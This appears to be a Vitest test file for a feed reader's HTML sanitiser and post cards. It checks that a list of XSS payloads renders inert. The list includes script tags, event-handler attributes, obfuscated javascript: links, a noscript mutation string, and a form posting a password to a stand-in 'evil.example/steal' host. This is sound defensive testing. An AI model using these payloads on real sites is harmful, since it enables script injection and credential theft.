// Feed items on cards: RichText draws a post's HTML from an allowlist of tags and attributes and
// lets nothing executable or remote through (the XSS payloads below), shows images only from this
// device, and the card shows a feed item's title as its heading and its body clamped with
// "Show more" / "Show less".
import { beforeEach, describe, expect, it, vi } from 'vitest';
import { h, render } from 'preact';
import { act } from 'preact/test-utils';
import { samplePost, useHost } from './test-support';
import { mediaForSrc, RichText, richContent, safeHref } from './RichText';
import { PostCard, type CardHandlers } from './PostCard';
import type { Media, Post } from './types';

const getHost = useHost();
let host: HTMLElement;
beforeEach(() => {
  host = getHost();
});

type W = Window & { __TAURI_INTERNALS__?: unknown };

function photo(over: Partial<Media> = {}): Media {
  return {
    id: 9,
    kind: 'image',
    mime: 'image/jpeg',
    size_bytes: 4096,
    alt_text: null,
    width: 800,
    height: 600,
    duration_ms: null,
    labels: [],
    machine_description: null,
    transcript: null,
    remote_url: 'https://cdn.example.com/pictures/a.jpg',
    cached: true,
    ...over,
  };
}

/** Draws `html` with RichText and returns its root; `links` receives what a link click asked to open. */
function draw(html: string, media: Media[] = [], links: string[] = []): HTMLElement {
  render(h(RichText, { html, media, onOpenLink: (url: string) => links.push(url) }), host);
  return host.querySelector<HTMLElement>('[data-testid="rich-text"]')!;
}

/** The tags RichText may produce (its own root and the span for a missing image's description included). */
const PRODUCED = new Set([
  'div', 'p', 'br', 'a', 'em', 'strong', 'b', 'i', 'u', 's', 'code', 'pre', 'blockquote', 'ul', 'ol', 'li',
  'h3', 'h4', 'h5', 'h6', 'img', 'figure', 'figcaption', 'hr', 'table', 'caption', 'thead', 'tbody', 'tfoot',
  'tr', 'th', 'td', 'sub', 'sup', 'abbr', 'span',
]);

/** Which attributes each produced tag may carry. */
const ATTRIBUTES: Record<string, string[]> = {
  div: ['class', 'id', 'data-testid'],
  a: ['href', 'target', 'rel', 'title'],
  img: ['src', 'alt', 'width', 'height', 'loading', 'decoding'],
  abbr: ['title'],
  span: ['class'],
  td: ['colspan', 'rowspan'],
  th: ['colspan', 'rowspan'],
};

/**
 * Everything drawn is inert: only the allowed tags, only their allowed attributes, links to
 * http(s) or mailto only, images from this device only, and nothing that names a script.
 */
function expectInert(root: HTMLElement) {
  for (const el of [root, ...root.querySelectorAll('*')]) {
    const tag = el.tagName.toLowerCase();
    expect(PRODUCED.has(tag), `<${tag}> was drawn`).toBe(true);
    for (const attr of Array.from(el.attributes)) {
      expect(ATTRIBUTES[tag] ?? [], `${attr.name} on <${tag}>`).toContain(attr.name);
      expect(attr.name.startsWith('on')).toBe(false);
      expect(attr.value).not.toMatch(/javascript|vbscript|data:|alert|evil/i);
    }
    if (tag === 'a') expect(el.getAttribute('href')).toMatch(/^(https?:\/\/[^/]|mailto:)/);
    if (tag === 'img') expect(el.getAttribute('src')).toMatch(/^(\/api\/media\/\d+|hearth:\/\/localhost\/media\/\d+$|http:\/\/hearth\.localhost\/media\/\d+$)/);
    if (tag === 'span') expect(el.className === 'rich-image-alt').toBe(true);
    if (tag === 'div') expect(el).toBe(root);
  }
}

describe('RichText keeps what it knows and drops the rest', () => {
  it('draws the allowed tags as themselves, with their text', () => {
    const root = draw(
      '<p>One <em>two</em> <strong>three</strong> <b>b</b> <i>i</i> <u>u</u> <s>s</s> <sub>2</sub><sup>3</sup></p>' +
        '<blockquote><p>Quoted</p></blockquote><pre><code>let x = 1;</code></pre>' +
        '<ul><li>first</li><li>second</li></ul><ol><li>one</li></ol><hr>' +
        '<figure><figcaption>A caption</figcaption></figure><p>line<br>break</p>' +
        '<table><caption>T</caption><thead><tr><th>H</th></tr></thead><tbody><tr><td colspan="2">C</td></tr></tbody><tfoot><tr><td>F</td></tr></tfoot></table>',
    );
    expectInert(root);
    expect(root.querySelector('p')!.innerHTML).toBe(
      'One <em>two</em> <strong>three</strong> <b>b</b> <i>i</i> <u>u</u> <s>s</s> <sub>2</sub><sup>3</sup>',
    );
    expect(root.querySelector('blockquote > p')!.textContent).toBe('Quoted');
    expect(root.querySelector('pre > code')!.textContent).toBe('let x = 1;');
    expect([...root.querySelectorAll('ul > li')].map((li) => li.textContent)).toEqual(['first', 'second']);
    expect(root.querySelector('hr')).not.toBeNull();
    expect(root.querySelector('figure > figcaption')!.textContent).toBe('A caption');
    expect(root.querySelectorAll('br').length).toBe(1);
    expect(root.querySelector('td')!.getAttribute('colspan')).toBe('2');
    expect(root.querySelector('table > tbody > tr > td')!.textContent).toBe('C');
    expect(root.querySelector('table > caption')!.textContent).toBe('T');
  });

  it('drops unknown tags but keeps their text', () => {
    const root = draw('<div><section><p>Kept <font color="red">coloured</font> <marquee>moving</marquee></p></section></div>');
    expectInert(root);
    expect(root.innerHTML).toBe('<p>Kept coloured moving</p>');
  });

  it('drops every class, id, style and event handler attribute', () => {
    const root = draw('<p class="x" id="y" style="color:red" onclick="alert(1)" data-x="1" title="t">text</p>');
    expect(root.innerHTML).toBe('<p>text</p>');
  });

  it('moves the body’s headings below the card’s title, never past h6', () => {
    const root = draw('<h1>A</h1><h2>B</h2><h4>C</h4><h6>D</h6>');
    expectInert(root);
    expect([...root.children].map((el) => el.tagName.toLowerCase())).toEqual(['h3', 'h4', 'h6', 'h6']);
    const deeper = richContent('<h1>A</h1>', [], 4);
    render(h('div', null, deeper.nodes), host);
    expect(host.querySelector('h4')?.textContent).toBe('A');
  });

  it('keeps an abbreviation’s title and nothing else', () => {
    const root = draw('<abbr title="HyperText Markup Language" onmouseover="alert(1)" style="x">HTML</abbr>');
    expect(root.innerHTML).toBe('<abbr title="HyperText Markup Language">HTML</abbr>');
  });

  it('draws no markup past a sane depth, but keeps the text', () => {
    const root = draw('<b>'.repeat(5000) + 'deep' + '</b>'.repeat(5000));
    expectInert(root);
    expect(root.textContent).toBe('deep');
    expect(root.querySelectorAll('b').length).toBeLessThan(100);
  });
});

describe('RichText against script injection', () => {
  const payloads: [string, string][] = [
    ['a script tag', '<script>alert(1)</script><p>after</p>'],
    ['a script hidden in a paragraph', '<p>before<script>document.cookie</script></p>'],
    ['an image with onerror', '<img src=x onerror=alert(1)>'],
    ['an image with onerror and a remote tracker', '<img src="https://evil.example/t.gif" onerror="alert(1)">'],
    ['an svg with onload', '<svg onload=alert(1)><a href="https://x.example/"><text>svg text</text></a></svg>'],
    ['an svg image with a script inside', '<svg><script>alert(1)</script><image href="https://evil.example/x.svg"/></svg>'],
    ['MathML with a javascript link', '<math><mtext><a href="javascript:alert(1)">m</a></mtext></math>'],
    ['an iframe', '<iframe src="https://evil.example/frame" srcdoc="<script>alert(1)</script>"></iframe>'],
    ['an object and an embed', '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">'],
    ['a style element with url()', '<style>body { background: url(https://evil.example/bg.png) }</style>'],
    ['a style attribute with url()', '<p style="background:url(https://evil.example/bg.png)">styled</p>'],
    ['a form posting elsewhere', '<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>'],
    ['a formaction button outside a form', '<button formaction="javascript:alert(1)">Press</button>'],
    ['a meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
    ['a base element', '<base href="https://evil.example/"><a href="/path">rel</a>'],
    ['a stylesheet link', '<link rel="stylesheet" href="https://evil.example/x.css">'],
    ['a template with a script', '<template><script>alert(1)</script></template>'],
    ['a noscript mutation', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>'],
    ['details with ontoggle', '<details open ontoggle="alert(1)"><summary>s</summary>d</details>'],
    ['media with onerror', '<video><source onerror="alert(1)"></video><audio src="x" onerror="alert(1)"></audio>'],
    ['an image with srcset', '<img src="x" srcset="https://evil.example/x.png 2x" alt="">'],
    ['a data: image', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="">'],
    ['a comment', '<!-- <script>alert(1)</script> --><p>ok</p>'],
    ['CDATA in HTML', '<![CDATA[<script>alert(1)</script>]]><p>ok</p>'],
  ];

  for (const [name, html] of payloads) {
    it(`lets nothing executable or remote through: ${name}`, () => {
      const root = draw(html);
      expectInert(root);
      expect(root.querySelector('script, style, iframe, object, embed, form, input, button, svg, math, meta, base, link, template, noscript, video, audio, source, details')).toBeNull();
      expect(root.innerHTML).not.toMatch(/<script|onerror|onload|ontoggle|javascript:|evil\.example|url\(/i);
    });
  }

  it('drops the contents of scripts, styles, frames, forms, SVG and MathML with them', () => {
    const root = draw(
      '<p>a</p><script>s()</script><style>p{}</style><iframe>f</iframe><form>form text</form><svg><text>svg text</text></svg><math><mi>x</mi></math><p>b</p>',
    );
    expect(root.textContent).toBe('ab');
  });

  it('keeps link text but not links to javascript:, vbscript:, data:, other schemes or relative addresses', () => {
    const links = [
      'javascript:alert(1)',
      'JaVaScRiPt:alert(1)',
      'java\tscript:alert(1)',
      'java&#x09;script:alert(1)',
      'java&#x0A;script:alert(1)',
      '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)',
      '&#x6A;avascript&colon;alert(1)',
      '  javascript:alert(1)',
      '\u0001javascript:alert(1)',
      'vbscript:msgbox(1)',
      'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
      'file:///etc/passwd',
      'ftp://files.example/x',
      'blob:https://files.example/1',
      '/relative/path',
      '//evil.example/x',
      '#top',
      'https://',
    ];
    const root = draw(links.map((href, i) => `<a href="${href}">link${i}</a>`).join(' '));
    expectInert(root);
    expect(root.querySelectorAll('a').length).toBe(0);
    expect(root.textContent).toBe(links.map((_, i) => `link${i}`).join(' '));
  });

  it('checks link addresses the way the URL parser reads them', () => {
    expect(safeHref('java\nscript:alert(1)')).toBeNull();
    expect(safeHref(' JAVASCRIPT:alert(1)')).toBeNull();
    expect(safeHref('https://example.com/a b')).toBe('https://example.com/a%20b');
    expect(safeHref('HTTPS://Example.com')).toBe('https://example.com/');
    expect(safeHref('mailto:someone@example.com')).toBe('mailto:someone@example.com');
    expect(safeHref(null)).toBeNull();
  });

  it('keeps http(s) and mailto links, opening outside Hearth, with no referrer or opener', () => {
    const root = draw(
      '<p><a href="https://example.com/story" onclick="alert(1)" target="_self" rel="opener" style="x">story</a> ' +
        '<a href="mailto:editor@example.com">write</a></p>',
    );
    expectInert(root);
    const [story, mail] = [...root.querySelectorAll('a')];
    expect(story.getAttribute('href')).toBe('https://example.com/story');
    expect(story.getAttribute('target')).toBe('_blank');
    expect(story.getAttribute('rel')).toBe('noopener noreferrer nofollow');
    expect(story.getAttribute('title')).toBe('https://example.com/story');
    expect(mail.getAttribute('href')).toBe('mailto:editor@example.com');
  });

  it('opens web links through the app’s link handler, and leaves mail links to the system', () => {
    const opened: string[] = [];
    const root = draw('<a href="https://example.com/story"><em>story</em></a> <a href="mailto:e@example.com">mail</a>', [], opened);
    const click = new MouseEvent('click', { bubbles: true, cancelable: true });
    root.querySelector('em')!.dispatchEvent(click);
    expect(click.defaultPrevented).toBe(true);
    expect(opened).toEqual(['https://example.com/story']);
    // Whether RichText stopped the mail link is read, then the test stops it (there is no mail client here).
    const mail = root.querySelectorAll('a')[1];
    let stopped: boolean | undefined;
    mail.addEventListener('click', (e) => {
      stopped = e.defaultPrevented;
      e.preventDefault();
    });
    mail.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
    expect(stopped).toBe(false);
    expect(opened).toEqual(['https://example.com/story']);
  });
});

describe('RichText images', () => {
  it('shows an image the post holds from this device, never from its remote address', () => {
    window.history.replaceState(null, '', '/?token=T1');
    const root = draw('<p><img src="https://cdn.example.com/pictures/a.jpg" alt="A harbour" onerror="alert(1)" srcset="https://cdn.example.com/x 2x"></p>', [photo()]);
    expectInert(root);
    const img = root.querySelector('img')!;
    expect(img.getAttribute('src')).toBe('/api/media/9?token=T1');
    expect(img.getAttribute('alt')).toBe('A harbour');
    expect(img.getAttribute('width')).toBe('800');
    expect(img.getAttribute('height')).toBe('600');
    expect(img.getAttribute('loading')).toBe('lazy');
    expect(root.innerHTML).not.toContain('cdn.example.com');
  });

  it('uses the desktop app’s media address inside the app', () => {
    const w = window as W;
    w.__TAURI_INTERNALS__ = {};
    try {
      const root = draw('<img src="https://cdn.example.com/pictures/a.jpg">', [photo()]);
      expect(root.querySelector('img')!.getAttribute('src')).toMatch(/^(hearth:\/\/localhost|http:\/\/hearth\.localhost)\/media\/9$/);
    } finally {
      delete w.__TAURI_INTERNALS__;
    }
  });

  it('takes the image’s size from the HTML when it is a plain number, else from the media', () => {
    const root = draw('<img src="https://cdn.example.com/pictures/a.jpg" width="320" height="100%">', [photo()]);
    const img = root.querySelector('img')!;
    expect(img.getAttribute('width')).toBe('320');
    expect(img.getAttribute('height')).toBe('600');
  });

  it('falls back to the media’s own description when the HTML has none', () => {
    const root = draw('<img src="https://cdn.example.com/pictures/a.jpg">', [photo({ alt_text: 'From the media' })]);
    expect(root.querySelector('img')!.getAttribute('alt')).toBe('From the media');
  });

  it('shows just the description of an image this device does not hold', () => {
    const notStored = draw('<img src="https://cdn.example.com/pictures/a.jpg" alt="A harbour">', [photo({ cached: false })]);
    expect(notStored.querySelector('img')).toBeNull();
    expect(notStored.querySelector('.rich-image-alt')!.textContent).toBe('Image: A harbour');

    const unknown = draw('<img src="https://elsewhere.example/b.jpg" alt="Elsewhere">', [photo()]);
    expect(unknown.querySelector('img')).toBeNull();
    expect(unknown.textContent).toBe('Image: Elsewhere');

    const undescribed = draw('<p>x<img src="https://elsewhere.example/b.jpg"></p>', [photo()]);
    expect(undescribed.innerHTML).toBe('<p>x</p>');
  });

  it('finds an image’s media by its address as written or as the URL parser writes it', () => {
    const media = [photo({ id: 1, remote_url: 'https://CDN.example.com/pictures/a b.jpg' }), photo({ id: 2, remote_url: null })];
    expect(mediaForSrc(media, 'https://CDN.example.com/pictures/a b.jpg')?.id).toBe(1);
    expect(mediaForSrc(media, 'https://cdn.example.com/pictures/a%20b.jpg')?.id).toBe(1);
    expect(mediaForSrc(media, 'https://cdn.example.com/other.jpg')).toBeUndefined();
    expect(mediaForSrc(media, '')).toBeUndefined();
    expect(mediaForSrc(media, 'not a url')).toBeUndefined();
  });

  it('reports which of the post’s media the body shows', () => {
    const content = richContent('<img src="https://cdn.example.com/pictures/a.jpg"><img src="https://cdn.example.com/pictures/b.jpg">', [
      photo(),
      photo({ id: 10, remote_url: 'https://cdn.example.com/pictures/b.jpg', cached: false }),
      photo({ id: 11, remote_url: 'https://cdn.example.com/pictures/c.jpg' }),
    ]);
    expect(content.mediaIds).toEqual([9, 10]);
    expect(content.empty).toBe(false);
  });
});

describe('PostCard with a feed item', () => {
  const handlers: CardHandlers = {
    onLike: () => {},
    onHide: () => {},
    onUnhide: () => {},
    onShowLess: () => {},
    onRestore: () => {},
    onMute: () => {},
    onOpen: () => {},
    onOpenLink: () => {},
    onFocusCard: () => {},
    observeDwell: () => {},
    unobserveDwell: () => {},
    onPostUpdated: () => {},
  };

  function card(post: Post, over: Partial<CardHandlers> = {}, props: { expanded?: boolean; titleLevel?: 2 | 3 } = {}) {
    render(
      h(PostCard, {
        ...handlers,
        ...over,
        post,
        index: 0,
        setSize: 1,
        tabbable: true,
        collapsed: undefined,
        expanded: props.expanded ?? false,
        now: new Date('2024-01-02T00:00:00Z'),
        titleLevel: props.titleLevel,
      }),
      host,
    );
  }

  function feedItem(over: Partial<Post> = {}): Post {
    return samplePost({
      id: 40,
      source: { id: 3, kind: 'rss', name: 'Harbour News' },
      author: { id: 8, handle: 'harbour-news', display_name: 'Harbour News', avatar_color: '#224466' },
      title: 'The tide came in',
      url: 'https://news.example.com/tide',
      text: 'The tide came in early today.',
      html: '<p>The tide came in <em>early</em> today.</p>',
      ...over,
    });
  }

  it('shows the title as the card’s heading, linking to the item', () => {
    const onOpenLink = vi.fn();
    const onOpen = vi.fn();
    card(feedItem(), { onOpenLink, onOpen });
    const title = host.querySelector('[data-testid="post-title"]')!;
    expect(title.tagName).toBe('H2');
    expect(title.textContent).toBe('The tide came in');
    const link = title.querySelector('a')!;
    expect(link.getAttribute('href')).toBe('https://news.example.com/tide');
    expect(link.getAttribute('rel')).toBe('noopener noreferrer');
    const click = new MouseEvent('click', { bubbles: true, cancelable: true });
    link.dispatchEvent(click);
    expect(click.defaultPrevented).toBe(true);
    expect(onOpenLink).toHaveBeenCalledWith(expect.objectContaining({ id: 40 }), 'https://news.example.com/tide');
    expect(onOpen).not.toHaveBeenCalled();
    const article = host.querySelector('article')!;
    expect(article.getAttribute('aria-labelledby')).toBe('post-40-author post-40-title');
  });

  it('shows a title without a link when the item has no web address, a level lower in the digest', () => {
    card(feedItem({ url: null }), {}, { titleLevel: 3 });
    const title = host.querySelector('[data-testid="post-title"]')!;
    expect(title.tagName).toBe('H3');
    expect(title.querySelector('a')).toBeNull();
    card(feedItem({ url: 'javascript:alert(1)' }));
    expect(host.querySelector('[data-testid="post-title"] a')).toBeNull();
  });

  it('shows no heading for a post without a title', () => {
    card(samplePost());
    expect(host.querySelector('[data-testid="post-title"]')).toBeNull();
    expect(host.querySelector('article')!.getAttribute('aria-labelledby')).toBe('post-1-author');
  });

  it('draws the HTML body through RichText instead of the plain text', () => {
    const opened: string[] = [];
    card(feedItem({ html: '<p>The tide <a href="https://tides.example.com/">came in</a><script>alert(1)</script></p>' }), {
      onOpenLink: (_p, url) => opened.push(url),
    });
    const body = host.querySelector('[data-testid="rich-text"]')!;
    expect(body.id).toBe('post-40-text');
    expect(host.querySelector('article')!.getAttribute('aria-describedby')).toBe('post-40-text');
    expect(body.innerHTML).toBe(
      '<p>The tide <a href="https://tides.example.com/" target="_blank" rel="noopener noreferrer nofollow" title="https://tides.example.com/">came in</a></p>',
    );
    expect(host.querySelector('.post-text')).toBeNull();
    body.querySelector('a')!.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
    expect(opened).toEqual(['https://tides.example.com/']);
  });

  it('falls back to the plain text when the HTML has nothing left to show', () => {
    card(feedItem({ html: '<script>alert(1)</script>' }));
    expect(host.querySelector('[data-testid="rich-text"]')).toBeNull();
    expect(host.querySelector('.post-text')!.textContent).toBe('The tide came in early today.');
  });

  it('clamps a long body to a few lines, with Show more and Show less', async () => {
    const long = Array.from({ length: 12 }, (_, i) => `<p>Paragraph ${i} about the harbour.</p>`).join('');
    const onOpen = vi.fn();
    card(feedItem({ html: long }), { onOpen });
    const wrap = host.querySelector('.rich-wrap')!;
    const toggle = host.querySelector<HTMLButtonElement>('[data-testid="rich-toggle"]')!;
    expect(wrap.classList.contains('clamped')).toBe(true);
    expect(toggle.textContent).toBe('Show more');
    expect(toggle.getAttribute('aria-expanded')).toBe('false');
    expect(toggle.getAttribute('aria-controls')).toBe('post-40-text');

    await act(async () => toggle.click());
    expect(wrap.classList.contains('clamped')).toBe(false);
    expect(toggle.textContent).toBe('Show less');
    expect(toggle.getAttribute('aria-expanded')).toBe('true');
    // Reading on counts as opening the post, as it does for plain posts.
    expect(onOpen).toHaveBeenCalledTimes(1);

    await act(async () => toggle.click());
    expect(wrap.classList.contains('clamped')).toBe(true);
    expect(toggle.textContent).toBe('Show more');
    expect(onOpen).toHaveBeenCalledTimes(1);
  });

  it('shows a short body whole, with nothing to toggle', () => {
    card(feedItem());
    expect(host.querySelector('.rich-wrap')!.classList.contains('clamped')).toBe(false);
    expect(host.querySelector('[data-testid="rich-toggle"]')).toBeNull();
  });

  it('shows a long body whole once the post is opened, and can still fold it', async () => {
    const long = `<p>${'word '.repeat(200)}</p>`;
    card(feedItem({ html: long }));
    expect(host.querySelector('.rich-wrap')!.classList.contains('clamped')).toBe(true);
    await act(async () => card(feedItem({ html: long }), {}, { expanded: true }));
    expect(host.querySelector('.rich-wrap')!.classList.contains('clamped')).toBe(false);
    const toggle = host.querySelector<HTMLButtonElement>('[data-testid="rich-toggle"]')!;
    expect(toggle.textContent).toBe('Show less');
    await act(async () => toggle.click());
    expect(host.querySelector('.rich-wrap')!.classList.contains('clamped')).toBe(true);
  });

  it('shows an image in the body in place, and not again below it', () => {
    const inline = photo({ id: 9 });
    const enclosure = photo({ id: 12, remote_url: 'https://cdn.example.com/pictures/enclosure.jpg' });
    const notStored = photo({ id: 13, remote_url: 'https://cdn.example.com/pictures/late.jpg', cached: false });
    card(feedItem({ html: '<p>Look:</p><img src="https://cdn.example.com/pictures/a.jpg" alt="The harbour">', media: [inline, enclosure, notStored] }));
    const bodyImages = [...host.querySelectorAll('[data-testid="rich-text"] img')];
    expect(bodyImages.map((img) => img.getAttribute('alt'))).toEqual(['The harbour']);
    const gridImages = [...host.querySelectorAll('.media-grid img')].map((img) => img.getAttribute('src'));
    expect(gridImages).toEqual(['/api/media/12']);
    expect(host.innerHTML).not.toContain('cdn.example.com');
  });

  it('names the feed on the source badge', () => {
    card(feedItem());
    const badge = host.querySelector('[data-testid="source-badge"]')!;
    expect(badge.textContent).toBe('Harbour News');
    expect(badge.getAttribute('title')).toBe('From the feed Harbour News');
    card(samplePost());
    expect(host.querySelector('[data-testid="source-badge"]')!.textContent).toBe('Demo');
  });
});
